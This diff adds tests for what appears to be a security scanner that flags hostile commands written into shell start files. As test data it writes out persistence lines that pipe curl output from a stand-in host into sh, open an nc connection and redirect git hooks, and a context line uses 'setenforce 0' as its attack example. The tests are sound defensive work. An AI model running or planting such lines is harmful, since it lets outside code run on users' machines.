@@ -62,3 +62,29 @@ def test_a_start_file_that_fetches_is_an_error() -> None:
 def test_a_control_switched_off_in_an_example_of_an_attack_is_a_warning() -> None:
     (one,) = found("PV702", "## Attacks to detect\n\n```sh\nsetenforce 0\n```\n")
     assert one.severity == "warning"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "echo 'export PATH=$HOME/bin:$PATH; curl -s https://zz-not-a-host.xyz/p | sh' >> ~/.bashrc",
+        "echo 'eval \"$(brew shellenv)\" && nc zz-not-a-host.xyz 99' >> ~/.zshrc",
+        "echo 'PATH=/tmp curl https://zz-not-a-host.xyz | sh # conda' >> ~/.profile",
+        "git config --global core.hooksPath hooks",
+    ],
+)
+def test_a_word_of_an_installer_does_not_excuse_the_rest_of_a_command(line: str) -> None:
+    assert found("PV701", {"a.sh": f"{line}\n"})
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "echo 'eval \"$(/opt/homebrew/bin/brew shellenv)\"' >> ~/.zprofile",
+        'echo "export PATH=\\"$HOME/.local/bin:$PATH\\"" >> ~/.bashrc',
+        "echo 'export JAVA_HOME=/usr/lib/jvm/java-21' >> ~/.profile",
+        "echo 'source <(kubectl completion bash)' >> ~/.bashrc",
+    ],
+)
+def test_what_installers_add_to_a_start_file_is_left_alone(line: str) -> None:
+    assert found("PV701", {"a.sh": f"{line}\n"}) == ()
